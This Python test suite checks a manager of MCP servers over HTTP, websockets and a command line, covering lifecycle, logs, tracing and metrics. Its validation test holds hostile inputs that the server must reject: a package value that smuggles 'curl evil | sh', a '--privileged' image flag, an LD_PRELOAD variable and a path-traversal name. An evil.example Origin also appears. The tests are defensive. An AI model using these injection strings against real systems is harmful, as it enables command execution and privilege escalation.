"""Managed servers over HTTP and from the command line, with a real engine or cluster behind."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from ..conftest import Running, running, until
from ..test_commands import mystic
from .contract import PATIENCE
from .engine import image
from .managing import PROBE, clean, left, managing, started


@pytest.fixture
def probe(collector: Running) -> Iterator[Any]:
    yield started(collector, "probe", image=image(), **PROBE, args=["--say", "hello"])
    collector.client.delete("/api/mcp/servers/probe")


def say(collector: Running, text: str, name: str = "probe") -> None:
    collector.post(f"/api/mcp/servers/{name}/execute", {"tool": "say", "arguments": {"text": text}})


def test_a_server_is_started_watched_called_restarted_and_stopped(collector: Running, mode: str, probe: Any) -> None:
    assert (probe["mode"], probe["path"], probe["spec"]["env"]) == (mode, "/servers/probe/mcp", [])
    assert probe["uptime"] >= 0
    assert [one["name"] for one in collector.get("/api/mcp/servers")["servers"]] == ["probe"]
    found = collector.get("/api/mcp/servers/probe/tools")
    assert {"echo", "whoami"} <= {tool["name"] for tool in found["tools"]}
    called = collector.post("/api/mcp/servers/probe/execute", {"tool": "echo", "arguments": {"text": "hi"}})
    assert called["content"] == [{"type": "text", "text": "hi"}]
    health = collector.get("/api/mcp/servers/probe/health")
    assert (health["healthy"], health["state"], health["server_info"]["name"]) == (True, "running", "probe")
    assert collector.post("/api/mcp/servers/probe/restart", {}, 202)["state"] == "starting"
    again = collector.get("/api/mcp/servers/probe", wait=20)
    assert (again["state"], again["restarts"]) == ("running", 1)
    assert collector.post("/api/mcp/stop", {"name": "probe"})["state"] == "stopped"
    assert collector.get("/api/mcp/servers") == {"servers": [], "count": 0}


def test_the_main_server_answers_as_its_clients_of_before_expect(collector: Running, mode: str) -> None:
    absent = collector.get("/api/mcp/status")
    assert (absent["status"], absent["uptime"], absent["container_status"]) == ("stopped", None, "not_found")
    assert absent["deployment_mode"] == mode
    body = {"image": image(), "transport": "stdio", "command": ["python", "/opt/probe.py"], "args": ["--say", "hello"]}
    try:
        assert collector.post("/api/mcp/start", body, 202)["name"] == "archon"
        assert collector.client.post("/api/mcp/start", json=body).status_code == 409
        until(lambda: collector.get("/api/mcp/status")["status"] == "running", "the start of the main server")
        found = until(lambda: collector.get("/api/mcp/status")["logs"] and collector.get("/api/mcp/status"), "a log")
        assert (found["container_status"].lower(), found["deployment_mode"]) == ("running", mode)
        assert found["logs"] == ["hello"]
        assert found["uptime"] >= 0
        assert collector.get("/api/mcp/logs")["count"] == 1
        assert collector.client.delete("/api/mcp/logs").json()["cleared_at"] > 0
        assert collector.get("/api/mcp/logs")["logs"] == []
        assert collector.get("/api/mcp/status")["logs"] == []
        say(collector, "later", "archon")
        until(lambda: [line["text"] for line in collector.get("/api/mcp/logs")["logs"]] == ["later"], "a later line")
        assert collector.client.delete("/api/mcp/servers/gone/logs").status_code == 404
    finally:
        assert collector.post("/api/mcp/stop", {})["state"] == "stopped"


def test_refusals_say_what_is_wrong_and_what_to_do(collector: Running) -> None:
    for path in ("/api/mcp/servers/gone", "/api/mcp/servers/gone/logs", "/api/mcp/servers/gone/tools"):
        reply = collector.client.get(path)
        assert reply.status_code == 404
        assert "'gone'" in reply.json()["error"]["message"]
    bad: list[tuple[dict[str, Any], str]] = [
        ({"name": "x", "server_type": "npx", "package": "x; curl evil | sh"}, "package"),
        ({"name": "x", "server_type": "docker", "image": "--privileged"}, "image"),
        ({"name": "x", "server_type": "npx", "package": "x", "env": {"LD_PRELOAD": "/x"}}, "env.LD_PRELOAD"),
        ({"name": "../", "server_type": "npx", "package": "x"}, "name"),
        ({"name": "nothing-known"}, "server_type"),
        ({}, "image"),
    ]
    for body, field in bad:
        reply = collector.client.post("/api/mcp/servers", json=body)
        assert (reply.status_code, reply.json()["error"]["field"]) == (422, field), body
    assert collector.client.post("/api/mcp/servers/gone/execute", json={"tool": 3}).status_code == 422
    assert collector.client.get("/api/mcp/servers/x;y").status_code == 422
    assert collector.client.get("/api/mcp/logs", params={"since": "yesterday"}).status_code == 422


def test_configuration_health_and_registry_are_told(collector: Running, mode: str) -> None:
    told = collector.get("/api/mcp/config")
    wanted = {"docker": "docker", "kubernetes": "sidecar"}[mode]
    assert (told["mode"], told["deployment_mode"], told["servers_max"]) == (wanted, mode, 20)
    assert collector.get("/api/mcp/health")["healthy"] is True
    every = {one["name"] for one in collector.get("/api/mcp/registry")["templates"]}
    assert {"archon", "everything", "time"} <= every
    assert [one["name"] for one in collector.get("/api/mcp/registry", q="time zone")["templates"]] == ["time"]
    assert collector.get("/api/mcp/registry", q="no such thing")["count"] == 0


def test_a_collector_that_may_run_nothing_says_how_to_get_something(tmp_path: Path) -> None:
    with running(tmp_path, servers="off") as collector:
        reply = collector.client.post("/api/mcp/servers", json={"name": "time", "server_type": "uv", "package": "x"})
        assert reply.status_code == 503
        assert "MYSTIC_SERVERS=off" in reply.json()["error"]["message"]
        assert collector.client.get("/api/mcp/health").json()["healthy"] is False


def test_logs_are_streamed_as_server_sent_events(collector: Running, probe: Any) -> None:
    with collector.client.stream("GET", "/api/mcp/servers/probe/logs/stream") as stream:
        assert stream.headers["content-type"].startswith("text/event-stream")
        lines = (json.loads(line[6:]) for line in stream.iter_lines() if line.startswith("data: "))
        assert next(lines)["text"] == "hello"
        say(collector, "live")
        assert next(lines)["text"] == "live"
        collector.client.delete("/api/mcp/servers/probe")
        assert list(lines)[-1] == {}


def test_logs_are_streamed_over_a_websocket(collector: Running, probe: Any) -> None:
    address = collector.url.replace("http", "ws")
    with connect(f"{address}/api/mcp/logs/stream?name=probe") as socket:
        assert json.loads(socket.recv(PATIENCE))["text"] == "hello"
        say(collector, "live")
        assert json.loads(socket.recv(PATIENCE))["text"] == "live"
        collector.client.delete("/api/mcp/servers/probe")
        assert [json.loads(text) for text in socket] == []  # it is closed in order
    with connect(f"{address}/api/mcp/servers/gone/logs/stream") as socket:
        assert "'gone'" in json.loads(socket.recv(PATIENCE))["error"]["message"]


def test_a_websocket_passes_the_same_gate_as_every_request(tmp_path: Path) -> None:
    with running(tmp_path, api_key="a-key-of-ours", servers="off") as collector:
        address = f"{collector.url.replace('http', 'ws')}/api/mcp/logs/stream"
        key = {"X-Mystic-Key": "a-key-of-ours"}
        for refused in ({}, {"X-Mystic-Key": "wrong"}, {**key, "Origin": "https://evil.example"}):
            with pytest.raises(InvalidStatus) as answer:
                connect(address, additional_headers=refused)
            assert answer.value.response.status_code == 403
        with connect(address, additional_headers=key) as socket:
            assert "error" in json.loads(socket.recv(PATIENCE))


def test_servers_outlive_their_collector_and_are_found_by_the_next(tmp_path: Path) -> None:
    try:
        with managing(tmp_path) as collector:
            before = started(collector, "stays", image=image(), **PROBE)
        with managing(tmp_path) as collector:
            after = collector.get("/api/mcp/servers/stays")
            assert (after["state"], after["identity"]) == ("running", before["identity"])
            assert collector.client.delete("/api/mcp/servers/stays").status_code == 200
        assert left(tmp_path) == []
    finally:
        clean(tmp_path)


def test_the_command_line_starts_looks_at_calls_and_stops(collector: Running, mode: str) -> None:
    port = str(collector.server.address[1])

    def ask(*words: str) -> tuple[int, str, str]:
        found = mystic("servers", *words, MYSTIC_PORT=port)
        return found.returncode, found.stdout, found.stderr

    assert ask("list") == (0, "no servers; 'mystic servers templates' lists what can be started\n", "")
    words = ["--type", "docker", "--image", image(), "--command", "python", "--env", "COLOUR=green"]
    placed = ["--node", "kubernetes.io/os=linux"]
    if mode == "docker":
        assert "cannot be placed" in ask("start", "cli", *words, *placed)[2]
        placed = []
    code, out, err = ask("start", "cli", *words, *placed, "--idle", "3600", "--args", "/opt/probe.py", "--say", "hello")
    assert (code, err) == (0, "")
    assert out == f"cli is running at {collector.url}/servers/cli/mcp\n"
    try:
        assert ask("start", "cli", *words)[0] == 1
        code, out, _ = ask("status", "cli")
        assert "running" in out
        assert "COLOUR" in out
        assert "green" not in out
        assert "echo" in ask("call", "cli")[1]
        assert ask("call", "cli", "echo", "text=hi", "times=2") == (0, "hihi\n", "")
        [listed] = json.loads(ask("list", "--format", "json")[1])["servers"]
        assert (listed["figures"]["calls"], listed["figures"]["errors"], listed["figures"]["sessions"]) == (2, 0, 0)
        assert (listed["spec"]["idle"], bool(listed["spec"]["placement"]["node_selector"])) == (3600, bool(placed))
        assert "CALLS" in ask("list")[1]
        assert ask("logs", "cli")[1].endswith("  hello\n")
        code, out, err = ask("call", "cli", "leave", "code=3")
        assert (code, out) == (1, "")
        assert "'cli' has ended" in err
        sick = until(lambda: _sick(collector, "cli"), "the end of the process is known")
        assert (sick["healthy"], "exit code 3" in sick["reason"]) == (False, True), sick
        assert ask("call", "cli", "echo", "no-value")[0] == 2
        assert ask("restart", "cli")[0] == 0
    finally:
        assert ask("stop", "cli") == (0, "cli is stopped\n", "")
    code, out, err = ask("start", "bad", "--type", "docker", "--image", "x;y")
    assert (code, out) == (2, "")
    assert "image is 'x;y'" in err
    code, _, err = ask("start", "lost", "--type", "docker", "--image", "mystic.invalid/x:1")
    assert code == 1
    assert "did not start" in err
    assert ask("stop", "lost")[0] == 0
    assert ask("stop", "lost")[0] == 1
    assert "everything" in ask("templates")[1]
    assert [line.split()[0] for line in ask("templates", "time", "zone")[1].splitlines()] == ["TEMPLATE", "time"]


def _sick(collector: Running, name: str) -> dict[str, Any] | None:
    """Return the health of a server once that has failed."""
    found = collector.client.get(f"/api/mcp/servers/{name}/health")
    told: dict[str, Any] = found.json()
    return told if (found.status_code, told["state"]) == (503, "failed") else None


def test_what_starting_a_server_takes_is_traced_into_the_trace_of_whoever_asked(collector: Running, mode: str) -> None:
    trace, parent = "5a" * 16, "6b" * 8
    body = {**PROBE, "name": "traced", "image": image()}
    headers = {"traceparent": f"00-{trace}-{parent}-01"}
    assert collector.client.post("/api/mcp/servers", json=body, headers=headers).status_code == 202
    assert collector.get("/api/mcp/servers/traced", wait=20)["state"] == "running"
    assert collector.client.delete("/api/mcp/servers/traced", headers=headers).status_code == 200

    def found() -> dict[str, Any]:
        answer = collector.client.get(f"/api/traces/{trace}")
        return {one["name"]: one for one in answer.json()["spans"]} if answer.is_success else {}

    of_docker = ("docker create and start container",) if mode == "docker" else ()
    chain = ("POST /api/mcp/servers", "start MCP server", *of_docker)
    until(lambda: {*chain, "stop MCP server"} <= found().keys(), "all spans")
    spans = found()
    assert spans[chain[0]]["parent_id"] == parent
    for above, below in itertools.pairwise(chain):
        assert spans[below]["parent_id"] == spans[above]["span_id"]
    assert spans["start MCP server"]["attributes"] == {"mystic.server": "traced"}


def test_what_is_counted_of_servers_is_in_the_store_with_everything_else(collector: Running, mode: str) -> None:
    started(collector, "counted", image=image(), **PROBE)
    collector.post("/api/mcp/servers/counted/execute", {"tool": "echo", "arguments": {"text": "hi"}})
    collector.client.delete("/api/mcp/servers/counted")
    collector.parts.managed.keep_figures()
    collector.settle()

    def kept(metric: str) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = collector.get("/api/points", metric=metric, service="gnosis-mystic")["points"]
        return [one["attributes"] for one in found]

    assert {"type": "docker", "mode": mode} in kept("mystic.servers.starts")
    assert {"server": "counted", "method": "tools/call", "outcome": "ok"} in kept("mystic.servers.calls")
